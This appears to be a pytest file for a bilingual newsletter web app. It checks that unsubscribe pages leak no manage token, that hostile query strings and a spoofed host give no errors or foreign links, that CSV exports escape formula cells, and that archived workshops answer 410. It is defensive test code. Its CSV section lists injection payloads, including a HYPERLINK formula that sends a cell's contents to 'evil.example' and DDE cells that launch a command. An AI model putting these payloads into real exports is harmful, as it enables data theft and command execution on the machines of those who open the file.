"""Smaller public holes: the unsubscribe URL leads to no manage token, query strings never
reach url_for, CSV cells that a spreadsheet would run are neutralised, archived workshops
are gone."""

from __future__ import annotations

import csv
import io
import re

import pytest
from bs4 import BeautifulSoup

from bulletin.mail import tokens
from bulletin.privacy.exporter import escape_cell
from tests.conftest import csrf_token

# --- 1. The unsubscribe URL does nothing but unsubscribe --------------------------------------


def manage_tokens_in(app, text: str) -> list[str]:
    """Every path segment of the page that reads as a manage token (or a /manage/ link)."""
    found = re.findall(r"/manage/([^\"'/?<\s]+)", text)
    with app.app_context():
        for candidate in re.findall(r"[A-Za-z0-9_\-.]{20,}", text):
            try:
                tokens.read_manage_token(candidate)
            except tokens.BadToken:
                continue
            found.append(candidate)
    return found


@pytest.mark.parametrize("one_click", [True, False], ids=["one-click", "button"])
def test_unsubscribe_responses_never_hold_a_manage_token(app, make_subscriber, one_click):
    subscriber = make_subscriber()
    url = f"/unsubscribe/{tokens.make_unsubscribe_token(subscriber.uid)}"
    client = app.test_client()
    page = client.get(url)
    assert page.status_code == 200 and not manage_tokens_in(app, page.text)
    data = {"List-Unsubscribe": "One-Click"} if one_click else {}
    for _ in range(2):  # the first POST unsubscribes, the repeat answers the same way
        response = client.post(url, data=data)
        assert response.status_code == 200 and "You have unsubscribed" in response.text
        assert not manage_tokens_in(app, response.text)


def test_unsubscribed_page_points_to_the_manage_link_in_the_mail_in_welsh(app, make_subscriber):
    subscriber = make_subscriber(language="cy")
    url = f"/unsubscribe/{tokens.make_unsubscribe_token(subscriber.uid)}"
    response = app.test_client().post(url, data={"List-Unsubscribe": "One-Click"})
    assert "Rheoli eich tanysgrifiad" in response.text and "mewn unrhyw fwletin" in response.text


# --- 2. Query strings never reach url_for -------------------------------------------------------

HOSTILE_QUERIES = [
    "endpoint=editor.dashboard",
    "_external=1",
    "_method=POST",
    "_anchor=x",
    "_scheme=https",
    "_external=1&_scheme=javascript",
    "values=1",
    "lang=xx&_external=1",
]


def foreign_links(html: str) -> list[str]:
    soup = BeautifulSoup(html, "html.parser")
    links = [
        tag.get("href") or tag.get("action") or tag.get("src") or ""
        for tag in soup.find_all(["a", "link", "form", "script", "img"])
    ]
    return [
        link
        for link in links
        if re.match(r"^\s*([a-z][a-z0-9+.\-]*:|//)", link, re.I)
        and "localhost" not in link
        and not link.startswith(("mailto:", "tel:"))
    ]


@pytest.mark.parametrize("query", HOSTILE_QUERIES)
def test_hostile_query_strings_give_no_500_and_no_foreign_link(
    app, editor_client, make_workshop, query
):
    make_workshop("Allyship workshop", slug="allyship")
    public = app.test_client()
    pages = [
        (public, path)
        for path in (
            "/subscribe",
            "/manage",
            "/issues",
            "/accessibility",
            "/privacy",
            "/workshops/allyship",
            "/nope",
        )
    ]
    pages += [
        (editor_client, path)
        for path in ("/editor/", "/editor/workshops", "/editor/subscribers/export")
    ]
    pages.append((app.test_client(), "/editor/login"))
    for client, path in pages:
        response = client.get(f"{path}?{query}", headers={"Host": "evil.example"})
        assert response.status_code < 500, (path, query)
        assert "evil.example" not in response.get_data(as_text=True), (path, query)
        assert not foreign_links(response.get_data(as_text=True)), (path, query)


@pytest.mark.parametrize("page", ["99999999999999999999", "9223372036854775808", "-5", "x"])
def test_a_huge_page_number_is_no_500_on_editor_lists(editor_client, page):
    for path in ("/editor/workshops", "/editor/opportunities", "/editor/admin/audit"):
        assert editor_client.get(f"{path}?page={page}").status_code == 200, path


def test_a_huge_page_number_is_no_500_on_the_issue_list(app):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    assert app.test_client().get("/issues?page=99999999999999999999").status_code < 500


def test_language_switch_keeps_the_real_query_and_replaces_lang(client, make_issue):
    response = client.get("/issues?page=1&lang=en&q=a%26b")
    link = BeautifulSoup(response.text, "html.parser").find("a", hreflang="cy")["href"]
    assert link == "/issues?page=1&q=a%26b&lang=cy"
    assert client.get(link).status_code == 200


# --- 4. CSV export: every cell a spreadsheet would run gets an apostrophe ----------------------

#: OWASP's CSV-injection examples and the variants that a start-of-cell check alone misses.
DANGEROUS_CELLS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to fix")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    " =1+2",  # leading spaces: still a formula in some spreadsheets
    "  @SUM(A1)",
    "Ann;=cmd|' /C calc'!A0",  # a `;` list: split on `;`, the second cell is a formula
    "Ann, =1+2",
    'Ann,"=1+2',
    "a;b; -1+cmd|' /C calc'!A0",
]
SAFE_CELLS = ["Ann", "a=b", "Siân ŵ", "Jones, Ann", "O'Neil; Bryn", "2026-12-02T10:00:00+00:00"]


def test_formula_cells_are_escaped_wherever_a_spreadsheet_would_start_a_cell():
    for dangerous in DANGEROUS_CELLS:
        assert escape_cell(dangerous) == "'" + dangerous, repr(dangerous)
    for safe in SAFE_CELLS:
        assert escape_cell(safe) == safe


def test_export_page_and_command_escape_the_owasp_examples(
    app, editor_client, runner, make_subscriber, tmp_path
):
    for number, name in enumerate(DANGEROUS_CELLS):
        make_subscriber(f"reader-{number}@example.org", name=name)
    page = editor_client.get("/editor/subscribers/export")
    response = editor_client.post(
        "/editor/subscribers/export",
        data={
            "csrf_token": csrf_token(page.text),
            "status": "",
            "language": "",
            "topic": "",
            "region": "",
        },
    )
    from bulletin.privacy.commands import export_command

    out = tmp_path / "out.csv"
    result = runner.invoke(export_command, ["-o", str(out)])
    assert result.exit_code == 0, result.output
    for text in (response.get_data(as_text=True), out.read_bytes().decode("utf-8")):
        names = [row["name"] for row in csv.DictReader(io.StringIO(text, newline=""))]
        assert names == ["'" + name for name in DANGEROUS_CELLS]


# --- 5. Archived workshops are gone ----------------------------------------------------------


def test_archived_workshop_page_and_ics_answer_410(client, make_workshop):
    make_workshop(
        "Old workshop",
        title_cy="Hen weithdy",
        slug="old",
        is_archived=True,
        summary_en="A secret summary",
    )
    make_workshop("Live workshop", slug="live")
    for path in ("/workshops/old", "/workshops/old.ics"):
        response = client.get(path)
        assert response.status_code == 410 and response.mimetype == "text/html"
        assert "This workshop is no longer available." in response.text
        assert "Old workshop" not in response.text and "secret" not in response.text
    welsh = client.get("/workshops/old?lang=cy")
    assert welsh.status_code == 410 and "Nid yw'r gweithdy hwn ar gael mwyach." in welsh.text
    assert client.get("/workshops/live").status_code == 200
    assert client.get("/workshops/live.ics").mimetype == "text/calendar"
